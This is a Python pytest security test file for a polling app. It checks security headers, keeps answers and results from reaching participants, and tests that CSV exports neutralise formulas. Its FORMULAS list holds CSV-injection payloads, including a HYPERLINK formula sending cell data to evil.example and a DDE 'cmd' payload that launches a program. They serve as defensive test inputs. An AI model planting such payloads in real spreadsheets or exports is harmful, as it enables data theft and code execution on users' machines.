"""What a page or a download may show: security headers everywhere, no hidden
results or other people's answers for a participant, no formulas in CSV files."""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import pytest
import yaml
from starlette.routing import Route

from poll.web.resources import resource_dir
from tests.security.conftest import World, count
from tests.security.helpers import vote_by_form
from tests.support.scripts import ENGLISH

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def check_headers(response: Any, what: str) -> None:
    headers = response.headers
    csp = headers.get("content-security-policy", "")
    directives = {d.split()[0]: d for d in (p.strip() for p in csp.split(";")) if d}
    script = directives.get("script-src", directives.get("default-src", ""))
    assert script and "'unsafe-inline'" not in script and "'unsafe-eval'" not in script, what
    assert directives.get("frame-ancestors") == "frame-ancestors 'none'", what
    assert directives.get("object-src") == "object-src 'none'", what
    assert headers.get("x-content-type-options") == "nosniff", what
    assert headers.get("referrer-policy") == "no-referrer", what
    count("security header checks (pages and files)")


def test_every_page_download_error_and_static_file_has_the_security_headers(
    world: World,
) -> None:
    room, code = world.start_run()
    params = {
        "room_id": room,
        "code": code,
        "kind": "summary",
        "session_id": world.runs[room],
        "format": "csv",
        "page": "1",
        "width": "1920",
    }
    params |= {"name": f"{'0' * 64}.png", "digest": "0" * 64}
    # A results link's token: one that names no run (its refusal has the headers too).
    params["token"] = "x" * 43
    paths = {"/", "/nope", "/static/nope.js", "/console/room/nope", f"/join?code={code}"}
    for route in world.app.routes:
        if isinstance(route, Route) and "GET" in (route.methods or ()):
            paths.add(re.sub(r"\{(\w+)(?::\w+)?\}", lambda m: params[m.group(1)], route.path))
    static = resource_dir("static")
    paths |= {f"/static/{p.relative_to(static)}" for p in static.rglob("*") if p.is_file()}
    for who in ("facilitator", "stranger"):
        with world.as_(who) as client:
            for path in sorted(paths):
                check_headers(client.get(path, follow_redirects=False), f"{who} GET {path}")
            check_headers(client.post("/"), f"{who} POST / (405)")


def messages_of(ws: Any, until_type: str = "pong") -> list[str]:
    ws.send_json({"type": "sync"})
    ws.send_json({"type": "ping", "t": "end"})
    texts = []
    for _ in range(50):
        raw = ws.receive_text()
        texts.append(raw)
        if json.loads(raw).get("t") == "end":
            return texts
    raise AssertionError("no pong")


def test_a_participant_never_sees_others_answers_or_hidden_results(world: World) -> None:
    room, code = world.start_run()
    retro, retro_code = world.start_run(ENGLISH)
    world.go_to(room, "aanvullende-vragen")  # open question, results live on the projector
    secret = "GEHEIM-antwoord-van-anna"
    with world.as_("anna") as anna:
        vote_by_form(anna, code, "aanvullende-vragen", text=secret)
    exports = [
        f"/console/room/{room}/responses.csv",
        f"/console/room/{room}/summary.csv",
        f"/console/room/{room}/results.xlsx",
        f"/console/session/{world.runs[room]}/runs.csv",
        f"/console/room/{room}/panel",
        f"/projector/{room}",
        f"/console/room/{room}",
    ]
    for shown in (False, True):
        if shown:
            world.act(room, "show", question_id="aanvullende-vragen")
        with world.as_("bram") as bram:
            page = bram.get(f"/r/{code}").text
            assert secret not in page
            with bram.websocket_connect(f"/ws/participant/{code}") as ws:
                seen = messages_of(ws)
                while not any(f'"results_shown":{json.dumps(shown)}' in t for t in seen):
                    seen.append(ws.receive_text())  # the newest state follows a cached one
            assert not any(secret in text for text in seen)
            snapshots = [json.loads(t) for t in seen if '"snapshot"' in t]
            results = snapshots[-1]["results"]
            assert (results is None) if not shown else ("texts" not in results)
            mine = [json.loads(t) for t in seen if '"mine"' in t]
            assert all(m["answers"] == [] for m in mine)
            for path in exports:
                response = bram.get(path)
                assert response.status_code == 403 and secret not in response.text
                count("attacks refused: participant reading results through routes")
    # Hidden results (the English session's first question): not on phones, not on the projector.
    world.go_to(retro, "on-track")
    with world.as_("anna") as anna:
        vote_by_form(anna, retro_code, "on-track", choice="yes")
    with world.as_("bram") as bram:
        bram.get(f"/r/{retro_code}")
        with bram.websocket_connect(f"/ws/participant/{retro_code}") as ws:
            snapshot = json.loads(next(t for t in messages_of(ws) if '"snapshot"' in t))
            assert snapshot["results"] is None and snapshot["results_shown"] is False
    with world.client.websocket_connect(f"/ws/projector/{retro}") as ws:
        snapshot = json.loads(next(t for t in messages_of(ws) if '"snapshot"' in t))
        assert snapshot["results"] is None


def test_moderated_texts_leave_the_projector(world: World) -> None:
    room, code = world.start_run()
    world.go_to(room, "aanvullende-vragen")
    with world.as_("anna") as anna:
        vote_by_form(anna, code, "aanvullende-vragen", text="iets ongepasts")
    with world.client.websocket_connect(f"/ws/console/{room}") as ws:
        snapshot = json.loads(next(t for t in messages_of(ws) if '"snapshot"' in t))
    ref = snapshot["results"]["texts"][0]["ref"]
    world.act(room, "moderate", question_id="aanvullende-vragen", ref=ref, hidden="true")
    projector = world.client.get(f"/projector/{room}").text
    assert "iets ongepasts" not in projector
    with world.client.websocket_connect(f"/ws/projector/{room}") as ws:
        assert not any("iets ongepasts" in text for text in messages_of(ws))


def formula_session(world: World) -> None:
    """Add a session whose prompt and option labels start like formulas."""
    script = yaml.safe_load(world.sessions.read_text(encoding="utf-8"))
    script["sessions"]["formulas"] = {
        "title": "=1+1",
        "language": "en",
        "items": [
            {"type": "choice", "id": "c", "prompt": "+danger", "other": True,
             "options": [{"id": "eq", "label": "=SUM(1)"}, {"id": "at", "label": "@x"},
                         {"id": "minus", "label": "-5"}]},
            {"type": "open", "id": "o", "prompt": "-what?", "max_answers": 20},
        ],
    }  # fmt: skip
    world.sessions.write_text(yaml.safe_dump(script, allow_unicode=True), encoding="utf-8")


def assert_no_formula(text: str, what: str) -> int:
    body = text.lstrip("\ufeff")
    rows = list(
        csv.reader(io.StringIO(body), delimiter=";" if ";" in body.split("\r\n")[0] else ",")
    )
    cells = 0
    for row in rows[1:]:
        for cell in row:
            cells += 1
            if re.fullmatch(r"-?\d+([.,]\d+)?", cell):
                continue  # counts and percentages
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (what, cell)
    assert cells
    return cells


def test_csv_exports_neutralise_formulas(world: World) -> None:
    formula_session(world)
    room, code = world.start_run("formulas")
    world.go_to(room, "c")
    for n, payload in enumerate(FORMULAS):
        with world.as_(f"phone{n}") as phone:
            vote_by_form(phone, code, "c", choices="_other", other=payload)
    world.go_to(room, "o")
    with world.as_("phone0") as phone:
        for payload in FORMULAS[:5]:
            vote_by_form(phone, code, "o", text=payload)
    count("CSV formula payloads tried", 2 * len(FORMULAS))
    for kind in ("responses", "summary"):
        for sep in (",", ";"):
            response = world.client.get(f"/console/room/{room}/{kind}.csv", params={"sep": sep})
            assert response.status_code == 200
            text = response.content.decode("utf-8")
            assert "'=HYPERLINK" in text or kind == "summary"
            assert "'+danger" in text
            assert "'=SUM(1)" in text or kind == "responses"
            assert_no_formula(text, f"{kind} {sep}")
    if world.kind == "sqlite":
        from poll.cli import main

        out = world.sessions.parent / "out.csv"
        store = f"sqlite:///{world.sessions.parent / 'poll.db'}"
        for extra in ([], ["--summary"], ["--sep", ";"]):
            assert main(["export", code, "--store", store, "-o", str(out), *extra]) == 0
            assert_no_formula(out.read_bytes().decode("utf-8"), f"poll export {extra}")


@pytest.mark.parametrize("cell", [*FORMULAS, "=", "\t", "\r", "-", "@"])
def test_neutralise_every_formula_start(cell: str) -> None:
    from poll.export import neutralise

    assert neutralise(cell).startswith("'")
